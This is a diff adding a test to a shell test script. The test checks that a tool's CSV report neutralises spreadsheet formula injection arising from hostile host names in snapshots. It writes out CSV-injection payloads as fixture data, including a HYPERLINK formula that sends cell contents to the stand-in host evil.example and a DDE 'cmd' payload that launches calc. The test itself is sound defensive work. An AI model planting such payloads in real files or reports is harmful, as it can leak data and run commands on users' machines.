@@ -214,4 +214,47 @@ elif [ "$rss" -lt $((total / 4)) ]; then
 else
 	fail "max RSS ${rss} KiB for $((total / 1024)) MiB of snapshots"
 fi
+# 12.C16: hostile host names in snapshots never reach a spreadsheet as
+# formulas (OWASP "CSV Injection"): a text cell starting with =, +, -, @,
+# tab or CR gets a leading ' inside quotes; numbers stay numbers.
+C=$TMPD/csvinj
+mkdir -p "$C"
+python3 - "$F/dc2/charlie.json" "$C" <<'EOT'
+import json, os, sys
+d = json.load(open(sys.argv[1]))
+names = ['=HYPERLINK("http://evil.example/?"&A1,"click")',
+         "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1']
+for i, n in enumerate(names):
+    d['host']['hostname'] = n
+    d['ipc_namespace']['hostname'] = n
+    d['host']['kernel_release'] = '=cmd|x' if i == 0 else '6.1'
+    json.dump(d, open(os.path.join(sys.argv[2], 'h%d.json' % i), 'w'))
+json.dump(d, open(os.path.join(sys.argv[2], '=1+1.json'), 'w'))
+EOT
+(cd "$C" && "$IPCTUNE" report --format csv h0.json h1.json h2.json h3.json \
+    h4.json h5.json =1+1.json missing.json) >"$TMPD/inj.csv" 2>/dev/null
+cat >"$TMPD/inj.py" <<'EOT'
+import csv, re, sys
+rows = list(csv.reader(open(sys.argv[1], newline='')))
+num = re.compile(r'-?[0-9]+(\.[0-9]+)?$')
+for r in rows[1:]:
+    for c in r:
+        if c and c[0] in '=+-@\t\r' and not num.match(c) and c != '-':
+            sys.exit('formula cell %r in %r' % (c, r[:3]))
+hosts = [r[1] for r in rows[1:]]
+want = ['\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'-2+3+cmd|' /C calc'!A0", "'+1+1", "'@SUM(1+1)",
+        "'\\x09=1+1", "'\\x0d=1+1"]
+for w in want:
+    assert w in hosts, (w, hosts)
+assert rows[1][3] == "'=cmd|x", rows[1][3]
+files = [r[0] for r in rows[1:]]
+assert "'=1+1.json" in files, files
+EOT
+if out=$(python3 "$TMPD/inj.py" "$TMPD/inj.csv" 2>&1); then
+	ok "12.C16 report --format csv neutralises formula cells from hostile snapshots"
+else
+	fail "12.C16 report --format csv writes a formula cell: $out"
+fi
+
 finish
